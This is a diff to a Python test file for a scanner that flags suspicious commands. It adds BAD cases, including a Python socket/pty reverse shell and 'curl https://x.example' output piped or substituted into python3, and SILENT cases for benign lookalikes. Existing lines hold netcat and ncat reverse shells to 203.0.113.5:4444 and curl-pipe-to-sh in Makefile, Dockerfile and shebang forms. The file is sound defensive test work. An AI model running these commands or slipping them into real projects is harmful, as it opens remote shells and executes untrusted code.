@@ -144,6 +144,13 @@ BAD = {
     ),
     "a reverse shell by netcat's -c": ("=== scripts/a.sh\nnc 203.0.113.5 4444 -c bash", "SUSPICIOUS_COMMAND"),
     "a reverse shell by ncat": ("=== scripts/a.sh\nncat 203.0.113.5 4444 --exec /bin/bash", "SUSPICIOUS_COMMAND"),
+    "a reverse shell in a block": (
+        "```python\nimport socket, os, pty\ns = socket.socket()\ns.connect(('h', 9))\nos.dup2(s.fileno(), 0)\n"
+        "pty.spawn('sh')\n```",
+        "SUSPICIOUS_COMMAND",
+    ),
+    "a download as a program": ("=== scripts/a.sh\npython3 <(curl https://x.example)", "SUSPICIOUS_COMMAND"),
+    "a download to the input": ("=== scripts/a.sh\ncurl https://x.example | python3 /dev/stdin", "SUSPICIOUS_COMMAND"),
     "a download in a Makefile": ("=== Makefile\nsetup:\n\t@curl https://x.example | sh", "SUSPICIOUS_COMMAND"),
     "a download in a Dockerfile": ("=== assets/Dockerfile\nRUN curl https://x.example | sh", "SUSPICIOUS_COMMAND"),
     "a download behind a shebang": ("=== bin/setup\n#!/bin/sh\ncurl https://x.example | sh", "SUSPICIOUS_COMMAND"),
@@ -198,12 +205,16 @@ SILENT = {
     "a text about an installation": (
         "=== scripts/a.sh\necho 'Install it: curl -fsSL https://x.example | sh'\n"
         'printf "curl -s $URL | bash" >&2\n'
+        'echo >&2 "Install it: curl https://x.example | sh"\n'
         'command -v uv >/dev/null 2>&1 || { echo "Run curl -LsSf https://x.example | sh first"; exit 1; }'
     ),
     "a text in a Makefile": '=== Makefile\nhelp:\n\t@echo "Install: curl -s https://x.example | sh"',
     "a server": (
         "=== scripts/a.py\nimport os, socket\ns = socket.socket()\ns.bind(('', 0))\nos.dup2(s.fileno(), 3)\n"
         "os.execv('./server', ['server'])"
+    ),
+    "a service that logs to a file": (
+        "=== scripts/a.pl\nuse Socket;\nmy $dir = socketdir();\ndup2($fd, 1);\nexec '/bin/sh', '-c', 'exec server';"
     ),
     "a detector of reverse shells": (
         '=== scripts/a.py\nimport socket\nBAD = [\n    "dup2",\n    "/bin/sh",\n    "connect",\n]\nsocket.socket()'
